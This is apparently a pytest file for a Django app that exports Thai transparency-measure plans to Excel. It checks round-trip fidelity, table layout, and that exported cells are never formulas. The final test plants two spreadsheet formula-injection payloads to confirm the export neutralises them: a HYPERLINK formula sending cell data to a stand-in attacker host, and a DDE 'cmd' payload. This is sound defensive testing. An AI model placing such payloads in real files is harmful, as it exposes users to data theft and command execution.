"""A plan exported to XLSX, copied from Excel and pasted back, gives the same plan."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from measures.actions import do_create_plan, do_import_measures
from measures.models import Plan
from measures.paste import parse
from tests.measure_helpers import context_for, make_plan, memo_measures_table


def as_excel_clipboard(xlsx: bytes) -> str:
    """What Excel puts on the clipboard: tab-separated, multi-line cells in quotes."""
    sheet = load_workbook(io.BytesIO(xlsx)).active
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter="\t", lineterminator="\r\n")
    for row in sheet.iter_rows(min_row=2, values_only=True):
        writer.writerow(["" if v is None else v for v in row])
    return buffer.getvalue()


def summary(plan: Plan) -> list[tuple]:
    return [
        (
            m.number,
            m.issue_area.number if m.issue_area else None,
            m.title,
            [s.text for s in m.steps.order_by("order")],
            sorted(d.name for d in m.departments.all()),
            m.start_date,
            m.end_date,
            m.period_phrase,
            m.follow_up_method,
            m.note,
            sorted(i.code for i in m.items.all()),
            m.finding_text,
        )
        for m in plan.measures.order_by("number")
    ]


@pytest.fixture
def source(personas, frameworks):
    plan = make_plan(personas.org)
    preview = parse(memo_measures_table(), context_for(plan, {"2:29": "I29"}))
    do_import_measures(plan, preview.measures, actor=None)
    first = plan.measures.get(number=1)
    first.finding_text = "เว็บไซต์ไม่มีข้อมูลโครงสร้าง\nไม่มีข้อมูลผู้บริหาร"
    first.issue_area = plan.organization.issue_areas.get(number=3)
    first.save()
    return plan


def test_the_export_pasted_back_is_the_same_plan(personas, source):
    response = personas.client_for(personas.reviewer).get(
        reverse("plan_export_xlsx", args=[personas.org.slug, source.pk])
    )
    assert response.status_code == 200
    copy = do_create_plan(personas.org, fiscal_year=2567, assessment=source.assessment, actor=None)
    context = context_for(copy)
    context.fiscal_year = 2566  # the same year's dates, to compare like with like
    preview = parse(as_excel_clipboard(response.content), context)
    assert preview.ok, [m.problems for m in preview.measures]
    do_import_measures(copy, preview.measures, actor=None)
    assert summary(copy) == summary(source)


def test_the_export_has_the_shape_of_the_published_tables(personas, source):
    content = (
        personas.client_for(personas.clerk)
        .get(reverse("plan_export_xlsx", args=[personas.org.slug, source.pk]))
        .content
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].value.startswith("มาตรการส่งเสริมคุณธรรมและความโปร่งใสภายในหน่วยงาน")
    assert [c.value for c in sheet[2]][:2] == ["ประเด็น", "มาตรการ/แนวทาง"]
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows in {
        "2:2",
        "$2:$2",
    }
    steps = sheet.cell(row=3, column=5).value
    assert steps.startswith("1. ") and sheet.cell(row=3, column=7).value == "ก.พ. – มี.ค. ๖๖"
    assert sheet.cell(row=3, column=1).value.startswith("(3)")
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_every_column_of_the_export_is_written_as_text_not_a_formula(personas, source):
    measure = source.measures.get(number=1)
    measure.period_text = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
    measure.owner_note = "+cmd|' /C calc'!A0"
    measure.save()
    response = personas.client_for(personas.clerk).get(
        reverse("plan_export_xlsx", args=[personas.org.slug, source.pk])
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value]
    assert cells and all(c.data_type != "f" for c in cells)
    assert all(not str(c.value).startswith(("=", "+", "-", "@")) for c in cells)
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
